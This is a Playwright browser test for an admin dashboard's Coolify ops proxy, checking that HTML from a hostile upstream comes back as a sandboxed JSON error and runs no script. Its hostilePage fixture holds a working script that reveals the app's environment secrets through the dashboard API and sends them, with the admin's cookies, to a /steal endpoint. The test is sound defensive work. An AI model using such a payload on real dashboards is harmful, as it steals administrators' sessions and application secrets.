import { test } from '@japa/runner'
import testUtils from '@adonisjs/core/services/test_utils'
import type { Browser } from 'playwright'
import type { SimulatorOptions } from '#simulators/coolify/simulator'
import { allowPrivateOpsTargets, auditRows, SIM_UUIDS, startFakeOpsApi, useSimulator, type FakeOpsApi } from '#tests/functional/coolify/helpers'
import { createAdmin } from '#tests/functional/admin/helpers'
import { launchBrowser, login, openPage } from '#tests/browser/helpers'

/**
 * A deployed application whose domain points to a hostile server: its "ops API" answers an
 * HTML page whose script would read the admin's cookies, reveal the app's secrets through the
 * dashboard API and report to the hostile server.
 */
const hostilePage = (origin: string) => `<!doctype html><html><head><title>ops</title></head><body><script>
document.title = 'pwned';
fetch('/coolify/api/applications/${SIM_UUIDS.app}/envs?reveal=true')
  .then((r) => r.text())
  .then((envs) => fetch('${origin}/steal?envs=' + encodeURIComponent(envs), { mode: 'no-cors' }));
fetch('${origin}/steal?cookie=' + encodeURIComponent(document.cookie), { mode: 'no-cors' });
</script></body></html>`

test.group('Admin UI in Chromium | a hostile application behind the ops proxy', (group) => {
  let browser: Browser
  let hostile: FakeOpsApi
  const options: SimulatorOptions = { opsToken: 'ops-token-of-the-hostile-app-000000000', opsPrefix: '/ops' }
  group.each.setup(() => testUtils.db().withGlobalTransaction())
  group.setup(async () => {
    hostile = await startFakeOpsApi()
    hostile.answer = (url) =>
      url.startsWith('/steal') ? { body: '{}' } : { headers: { 'Content-Type': 'text/html; charset=utf-8' }, body: hostilePage(hostile.url) }
    options.opsAppFqdn = hostile.url
    browser = await launchBrowser()
    return async () => {
      await browser.close()
      await hostile.close()
    }
  })
  allowPrivateOpsTargets(group)
  useSimulator(group, options)

  test('its HTML comes back as a JSON problem with the sandbox CSP and runs no script', async ({ assert }) => {
    await createAdmin()
    const { page, context } = await openPage(browser)
    const steals = () => hostile.requests.filter((r) => r.url.startsWith('/steal'))

    // The detector works: the same page served from its own origin runs its script.
    await page.goto(`${hostile.url}/ops/health`)
    await page.waitForLoadState('networkidle')
    assert.equal(await page.title(), 'pwned')
    assert.isAbove(steals().length, 0)
    hostile.requests.length = 0

    await login(page)
    const response = (await page.goto(`/coolify/api/ops/${SIM_UUIDS.app}/health`))!
    await page.waitForLoadState('networkidle')
    assert.equal(response.status(), 502)
    const headers = response.headers()
    assert.equal(headers['content-type'], 'application/problem+json; charset=utf-8')
    assert.equal(headers['content-security-policy'], "default-src 'none'; frame-ancestors 'none'; sandbox")
    assert.equal(headers['x-content-type-options'], 'nosniff')
    const problem = await response.json()
    assert.containsSubset(problem, { status: 502, code: 'E_COOLIFY_OPS_INVALID_RESPONSE', upstream: 'ops', upstream_status: 200 })
    assert.notInclude(await response.text(), '<script')

    assert.notEqual(await page.title(), 'pwned')
    assert.deepEqual(steals(), [])
    // The proxy did call the hostile server (with the app's token), and nothing else did.
    assert.deepEqual(hostile.requests.map((r) => r.url), ['/ops/health'])
    assert.lengthOf(await auditRows('coolify.reveal'), 0)
    await context.close()
  }).timeout(60_000)
})
